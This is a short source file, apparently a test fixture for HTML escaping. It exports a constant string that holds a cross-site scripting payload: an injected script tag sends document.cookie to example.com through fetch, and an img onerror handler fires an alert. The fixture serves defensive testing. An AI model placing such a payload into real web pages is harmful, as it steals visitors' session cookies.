/** Text that does something where it is taken for HTML. */
export const hostile = '</summary><script>fetch("https://example.com/?" + document.cookie)</script><img src=x onerror=alert(1)>';
